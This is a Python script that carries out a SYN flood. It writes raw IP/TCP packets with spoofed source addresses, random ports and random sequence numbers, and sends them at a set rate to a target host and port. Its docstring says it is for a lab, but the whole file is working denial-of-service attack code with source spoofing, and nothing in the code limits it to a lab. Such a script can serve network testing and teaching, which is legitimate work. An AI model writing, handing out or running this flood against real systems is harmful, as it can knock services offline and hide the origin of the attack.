#!/usr/bin/env python3
"""A SYN flood for the lab: SYNs to DST:PORT from spoofed sources
(random addresses in PREFIX.0/24 above .99, random ports and sequence
numbers) at RATE a second for SECONDS, written with a raw socket.
Prints how many were sent.

    syn_flood.py DST PORT PREFIX RATE SECONDS
"""
import random
import socket
import struct
import sys
import time

from fragments import csum  # the Internet checksum, beside this file

dst, port, prefix, rate, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])


def syn(src):
    sport, seq = random.randint(1024, 65535), random.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, random.getrandbits(16), 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + tcp


s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
pool = [syn("%s.%d" % (prefix, random.randint(100, 250))) for _ in range(4096)]
sent, start = 0, time.time()
while time.time() - start < seconds:
    for _ in range(100):
        s.sendto(pool[sent % len(pool)], (dst, 0))
        sent += 1
    ahead = sent / rate - (time.time() - start)
    if ahead > 0:
        time.sleep(ahead)
print(sent)
